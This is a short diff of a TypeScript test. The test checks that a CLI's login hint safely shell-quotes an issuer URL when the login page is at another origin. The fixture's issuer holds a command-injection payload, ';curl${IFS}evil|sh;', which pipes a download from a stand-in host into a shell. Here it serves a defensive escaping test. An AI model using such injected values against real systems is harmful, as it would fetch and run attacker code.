@@ -16,7 +16,7 @@ function hintOf(refuse: () => unknown): string {
   return '';
 }
 
-test('the command of a login at another page has the issuer as one word of a shell', () => {
+test('the hint about a login page at another origin has a command with the issuer as one word of a shell', () => {
   const as = { ...serverOf(`https://as.evil/;curl\${IFS}evil|sh;`), authorization_endpoint: 'https://page.evil/' };
   expect(hintOf(() => checkLoginPage('docs', as))).toMatch(
     / hostler login docs --issuer 'https:\/\/as\.evil\/;curl\$\{IFS\}evil\|sh;'$/,
